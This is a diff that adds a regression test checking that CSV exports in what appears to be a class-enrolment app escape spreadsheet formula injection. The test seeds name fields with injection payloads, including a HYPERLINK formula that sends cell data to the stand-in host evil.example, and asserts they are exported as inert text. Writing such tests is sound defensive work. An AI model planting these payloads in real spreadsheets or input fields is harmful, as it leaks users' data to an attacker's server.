@@ -235,3 +235,37 @@ def test_reports_cost_fixed_queries_and_are_for_admins(world, login):
             credit_add_manual(now=timezone.now(), enrolment=e, reason="x", actor=None, valid_days=9)
     assert [cost(u) for u in urls] == before
     assert login(world.staff_a).get(urls[0]).status_code == 403
+
+
+def test_bey_5_csv_exports_never_carry_a_formula(world, login):
+    """Names typed by any staff login (instructor, programme, location) are text in the
+    spreadsheet, never formulas; numbers stay numbers."""
+    teacher = world.staff_a
+    teacher.full_name = "+SUM(1+1)"
+    teacher.save(update_fields=["full_name"])
+    klass = f.ClassFactory(
+        programme__company=world.company_a,
+        programme__name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        location="@cmd",
+        instructor=teacher,
+        price_per_session=Decimal("25.00"),
+        min_age_months=None,
+        max_age_months=None,
+    )
+    enrolment = f.EnrolmentFactory(klass=klass)
+    session = f.SessionFactory(klass=klass, local_date=date(2026, 11, 10))
+    with scope(company=world.company_a):
+        attendance_set_state(enrolment=enrolment, session=session, state=S.PRESENT, now=NOW)
+        credit_add_manual(enrolment=enrolment, reason="a", actor=None, now=timezone.now())
+    client = login(world.admin_a)
+    liability = _csv(client.get("/manage/reports/makeup-liability/?format=csv"))
+    assert liability[1][:4] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        "'@cmd",
+        "1",
+        "25.00",
+    ]
+    pay = _csv(
+        client.get("/manage/reports/instructor-pay/?first=2026-11-01&last=2026-11-30&format=csv")
+    )
+    assert pay[1] == ["'+SUM(1+1)", "1", "0"]
